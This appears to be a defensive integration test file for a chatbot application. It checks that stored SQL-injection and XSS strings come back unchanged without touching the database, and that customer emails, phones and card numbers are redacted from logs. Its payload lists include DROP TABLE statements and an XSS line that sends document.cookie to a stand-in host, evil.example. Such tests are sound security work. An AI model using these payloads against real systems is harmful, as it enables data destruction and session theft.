import { randomUUID } from 'node:crypto';
import { Logger } from '@nestjs/common';
import { UsersService } from '@app/auth';
import type { BotReply, SendMessageResult, StartConversationResult } from '@app/contracts';
import { bootTestApp, collectEvents, makePgliteDir, removeDir, requestOk, startConversation, TestApp, TestDatabase, waitForEvent, WidgetSocket } from '@app/testing';
import { PinoLoggerService } from '@app/logging';

/**
 * Hostile text is data: SQL-injection and XSS strings stored through every text field (widget messages, answer
 * templates, knowledge-base articles) come back byte-identical and leave every table in place; PII typed by a
 * customer never reaches the logs raw. Real app, real model, PGlite and PostgreSQL.
 */
jest.setTimeout(180_000);

const SQL_INJECTION = [
  `'; DROP TABLE message; --`,
  `' OR 1=1 --`,
  `"; DROP TABLE conversation CASCADE; --`,
  `1); DELETE FROM answer_template; --`,
  `' UNION SELECT token_hash, NULL FROM conversation --`,
  `$$; DROP TABLE kb_article; $$`,
  `\\'; SELECT pg_sleep(10); --`,
  `Robert'); TRUNCATE review_item;--`,
];
const XSS = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(document.cookie)>`,
  `"><svg onload=alert(1)>`,
  `javascript:alert(1)`,
  `</textarea><script>fetch('//evil.example/?c='+document.cookie)</script>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `&lt;b&gt; already escaped &amp; "quotes" 'single' \`back\` – ünïcödé 🙂 \u202Eevil`,
];
const HOSTILE = [...SQL_INJECTION, ...XSS];
const ADMIN = { email: 'sec-admin@example.com', password: 'correct-horse-battery-staple' };

describe.each<[TestDatabase]>([['pglite'], ['postgres']])('hostile input is inert on %s', (kind) => {
  let t: TestApp;
  let dir: string | undefined;
  let auth: Record<string, string> = {};
  const logLines: string[] = [];
  const sockets: WidgetSocket[] = [];

  const call = async (method: string, path: string, body?: unknown) => {
    const res = await fetch(`${t.url}${path}`, {
      method,
      headers: { ...auth, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await res.text();
    return { status: res.status, body: text && res.headers.get('content-type')?.includes('json') ? JSON.parse(text) : text };
  };
  const tables = async () =>
    (await t.dataSource.query(`SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1`)).map((r: { table_name: string }) => r.table_name);

  beforeAll(async () => {
    dir = kind === 'pglite' ? makePgliteDir() : undefined;
    const logger = new PinoLoggerService('debug', { write: (line: string) => void logLines.push(line) });
    t = await bootTestApp({ kind, pgliteDir: dir }, { LOG_LEVEL: 'debug' }, { logger });
    // Content writes need an admin (the PostgreSQL test database keeps users between runs).
    let login = await call('POST', '/api/auth/login', ADMIN);
    if (login.status === 401) {
      await t.app.get(UsersService).create({ email: ADMIN.email, name: 'Security probe', role: 'admin', password: ADMIN.password }, null);
      login = await call('POST', '/api/auth/login', ADMIN);
    }
    expect(login.status).toBeLessThan(300);
    auth = { authorization: `Bearer ${login.body.token}` };
  });

  afterEach(() => {
    for (const s of sockets.splice(0)) s.disconnect();
  });

  afterAll(async () => {
    await t?.close();
    if (dir) removeDir(dir);
  });

  it('stores hostile widget messages byte-identical, answers them, and keeps every table', async () => {
    const before = await tables();
    const { socket, conversation } = await startConversation(t.url);
    sockets.push(socket);
    const replies = collectEvents(socket, 'bot:reply');
    const acks: SendMessageResult[] = [];
    for (const text of HOSTILE) acks.push(await requestOk<SendMessageResult>(socket, 'message:send', { clientMessageId: randomUUID(), text }));
    await t.drainTurns();

    for (const [i, ack] of acks.entries()) {
      const [row] = await t.dataSource.query(`SELECT text FROM message WHERE id = $1`, [ack.messageId]);
      expect(row.text).toBe(HOSTILE[i]);
    }
    // Every message gets its one reply: the pipeline (NLU, full-text search, templates) took them as text.
    // (A reply may still be on the wire when the turns are drained: wait for the last one; the collector, attached
    // first, has already counted the event this filter sees.)
    const expected = new Set(acks.map((a) => a.messageId));
    const answered = () => new Set(replies.events.map((r: BotReply) => r.replyTo));
    if (answered().size < expected.size) {
      await waitForEvent(socket, 'bot:reply', { timeout: 20_000, filter: () => answered().size >= expected.size });
    }
    expect(answered()).toEqual(expected);
    replies.stop();
    // Read back through the protocol: a resuming client gets exactly what was sent.
    const resumed = await startConversation(t.url, { token: conversation.token });
    sockets.push(resumed.socket);
    const inbound = resumed.conversation.messages.filter((m: StartConversationResult['messages'][number]) => m.author === 'customer').map((m) => m.text);
    expect(inbound).toEqual(HOSTILE);
    expect(await tables()).toEqual(before);
    const [{ n }] = await t.dataSource.query(`SELECT count(*)::int AS n FROM conversation WHERE id = $1`, [conversation.conversationId]);
    expect(n).toBe(1);
  });

  it('stores hostile answer templates and articles byte-identical through REST', async () => {
    const before = await tables();
    const templatesBefore = (await call('GET', '/api/content/templates?limit=1')).body.total;
    // The PostgreSQL test database keeps content between runs: unique names per run.
    const run = randomUUID().slice(0, 8);
    for (const [i, text] of HOSTILE.entries()) {
      const created = await call('POST', '/api/content/templates', { intent: `sec_probe_${run}_${i}`, name: text, variants: [text, `Also: ${text}`] });
      expect(created.status).toBe(201);
      const read = await call('GET', `/api/content/templates/${created.body.id}`);
      expect(read.body).toMatchObject({ name: text, variants: [text, `Also: ${text}`] });

      const article = await call('POST', '/api/content/articles', { slug: `sec-probe-${run}-${i}`, title: text, body: `${text}\n${text}`, questions: [text] });
      expect(article.status).toBe(201);
      const got = await call('GET', `/api/content/articles/${article.body.id}`);
      expect(got.body).toMatchObject({ title: text, body: `${text}\n${text}`, questions: [text] });
    }
    // A hostile search is a search: the full-text query over the hostile articles runs and finds them.
    const { socket } = await startConversation(t.url);
    sockets.push(socket);
    const ack = await requestOk<SendMessageResult>(socket, 'message:send', { clientMessageId: randomUUID(), text: SQL_INJECTION[0] });
    await waitForEvent(socket, 'bot:reply', { timeout: 20_000, filter: (r) => r.replyTo === ack.messageId });

    expect((await call('GET', '/api/content/templates?limit=1')).body.total).toBe(templatesBefore + HOSTILE.length);
    expect(await tables()).toEqual(before);
    // The export carries the same text.
    const exported = await call('GET', '/api/content/articles/export?format=json');
    const probe = exported.body.find((a: { slug: string }) => a.slug === `sec-probe-${run}-0`);
    expect(probe.title).toBe(HOSTILE[0]);
  });

  it('keeps emails, phone and card numbers typed by a customer out of the logs', async () => {
    logLines.length = 0;
    const pii = { email: 'jane.doe@example.com', phone: '+44 20 7946 0958', card: '4111 1111 1111 1111' };
    const { socket } = await startConversation(t.url);
    sockets.push(socket);
    const text = `my email is ${pii.email}, call me on ${pii.phone}, card ${pii.card}, order 12345678`;
    const ack = await requestOk<SendMessageResult>(socket, 'message:send', { clientMessageId: randomUUID(), text });
    await waitForEvent(socket, 'bot:reply', { timeout: 20_000, filter: (r) => r.replyTo === ack.messageId });
    // A library that does log raw text (a third-party error, a careless debug line) goes through the same logger.
    new Logger('Probe').debug({ event: 'probe', detail: `echo: ${text}` });
    await t.drainTurns();

    const log = logLines.join('');
    expect(logLines.length).toBeGreaterThan(2);
    expect(log).toContain('"event":"probe"');
    for (const raw of [pii.email, pii.phone, pii.card, pii.card.replace(/ /g, ''), '7946 0958']) expect(log).not.toContain(raw);
    expect(log).toContain('echo: my email is [email], call me on [phone], card [card]');
  });
});
